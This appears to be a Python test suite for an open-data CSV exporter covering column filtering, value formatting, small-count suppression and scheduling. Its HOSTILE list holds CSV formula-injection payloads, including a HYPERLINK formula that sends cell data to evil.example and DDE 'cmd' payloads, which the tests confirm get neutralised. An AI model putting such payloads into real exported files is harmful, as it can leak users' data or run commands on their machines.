"""Pure parts of the open-data export: columns kept, values written as a spreadsheet
user gets them, suppression and its coarser level, the schedule."""

from __future__ import annotations

import csv
import dataclasses
import io
import threading
from datetime import UTC, date, datetime

from hypothesis import given
from hypothesis import strategies as st

from schemas.catalog import get_dataset
from sinks.dcat import DcatArea
from sinks.open_data import (
    FORMULA_PREFIXES,
    aggregate,
    csv_bytes,
    csv_text,
    load_province_area,
    public_columns,
    run_schedule,
)

PROVINCE = DcatArea("75", "Đồng Nai", 10.45, 12.30, 106.35, 107.65)
NAMES = {"75001": "Phường Biên Hòa", "75002": "Phường Trấn Biên"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def spreadsheet_rows(data: bytes) -> list[list[str]]:
    """What a spreadsheet user gets: the file decoded as UTF-8 with its BOM, RFC 4180."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_personal_and_bookkeeping_columns_are_left_out() -> None:
    teachers = get_dataset("education.teachers")
    kept, dropped = public_columns(
        teachers,
        ["teacher_id", "full_name", "citizen_id", "birth_date", "sex", "school_id", "_version"],
    )
    assert kept == ["teacher_id", "school_id"]
    assert dropped == ["full_name", "citizen_id", "birth_date", "sex"]
    nested = dataclasses.replace(teachers, personal_fields=("owner",))
    assert public_columns(nested, ["owner_name", "owner_kind", "ownership"]) == (
        ["ownership"],
        ["owner_name", "owner_kind"],
    )


def test_values_have_one_text_form() -> None:
    assert csv_text(None) == ""
    assert csv_text(True) == "true"
    assert csv_text(0.1) == "0.1"
    assert csv_text(datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)) == "2025-01-02T03:04:05.000Z"
    assert csv_text(date(2025, 1, 2)) == "2025-01-02"
    assert csv_bytes(["a", "b"], [("x,y", None)], bom=False) == b'a,b\r\n"x,y",\r\n'


def test_csv_is_utf8_with_a_bom_by_default() -> None:
    data = csv_bytes(["tên"], [("Trường THPT Lê Quý Đôn",)])
    assert data.startswith(b"\xef\xbb\xbf")
    assert spreadsheet_rows(data) == [["tên"], ["Trường THPT Lê Quý Đôn"]]
    assert not csv_bytes(["a"], [], bom=False).startswith(b"\xef\xbb\xbf")


def test_formula_cells_are_neutralised_the_owasp_way() -> None:
    data = csv_bytes(["text", "n"], [(h, -5) for h in HOSTILE] + [("Bình thường", 1.5)])
    rows = spreadsheet_rows(data)
    assert rows[0] == ["text", "n"]
    for (text, n), hostile in zip(rows[1:], HOSTILE, strict=False):
        # the original text behind one apostrophe, which spreadsheets show as text
        assert text == "'" + hostile
        assert n == "-5"  # a number from a typed column is data, not a formula
    assert rows[-1] == ["Bình thường", "1.5"]
    # no cell a spreadsheet would evaluate: each starts with a harmless character
    for row in rows[1:]:
        assert not row[0].startswith(FORMULA_PREFIXES)
    # and each neutralised cell is quoted in the file itself
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[1].startswith('"\'=HYPERLINK(""http')
    assert lines[2] == "\"'+cmd|' /C calc'!A0\",-5"


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), max_size=4))
def test_any_text_reads_back_as_itself_or_neutralised(texts: list[str]) -> None:
    rows = spreadsheet_rows(csv_bytes(["x"] * len(texts), [texts]))
    cells = rows[1] if texts else []
    assert len(cells) == len(texts)
    for cell, text in zip(cells, texts, strict=True):
        if text.startswith(FORMULA_PREFIXES):
            assert cell == "'" + text
        else:
            assert cell == text
            assert not cell.startswith(FORMULA_PREFIXES)


def test_counts_below_the_minimum_are_blank_and_flagged() -> None:
    rows = [("75001",)] * 5 + [("75002",)] * 4 + [(None,)]
    agg = aggregate(["commune_code"], rows, 5, commune_names=NAMES, province=PROVINCE)
    assert (agg.level, agg.coarsened) == ("commune", False)
    assert agg.header == ["commune_code", "commune_name", "count", "suppressed"]
    assert agg.cells == (
        ("", "", None, True),
        ("75001", "Phường Biên Hòa", 5, False),
        ("75002", "Phường Trấn Biên", None, True),
    )
    assert agg.suppressed == 2


def test_the_province_is_published_when_every_commune_count_is_suppressed() -> None:
    rows = [("75001",)] * 4 + [("75002",)] * 3
    agg = aggregate(["commune_code"], rows, 5, commune_names=NAMES, province=PROVINCE)
    assert (agg.level, agg.coarsened) == ("province", True)
    assert agg.header == ["province_code", "province_name", "count", "suppressed"]
    assert agg.cells == (("75", "Đồng Nai", 7, False),)
    # fewer than the minimum in the whole province: suppressed there too, said so
    few = aggregate(["commune_code"], rows[:3], 5, commune_names=NAMES, province=PROVINCE)
    assert few.cells == (("75", "Đồng Nai", None, True),)


def test_internal_quality_fields_are_never_public() -> None:
    schools = get_dataset("education.schools")
    kept, dropped = public_columns(
        schools,
        ["school_id", "commune_code", "commune_code_source", "quality_flags", "data_source"],
    )
    # data_source has no data_ field beside it: a field of the record, kept
    assert (kept, dropped) == (["school_id", "commune_code", "data_source"], [])


def test_the_packaged_province_area_is_the_spatial_coverage() -> None:
    area = load_province_area("75")
    assert area.name == "Đồng Nai" and area.min_lat < area.max_lat
    assert area.centroid_wkt().startswith("POINT(107.")


def test_schedule_runs_until_stopped_and_survives_a_failed_run() -> None:
    stop = threading.Event()
    calls: list[int] = []
    errors: list[Exception] = []

    def job() -> int:
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("repository down")
        if len(calls) == 3:
            stop.set()
        return len(calls)

    results: list[int] = []
    done = run_schedule(
        job, interval_s=0.001, stop=stop, on_result=results.append, on_error=errors.append
    )
    assert (done, results, len(errors)) == (2, [1, 3], 1)
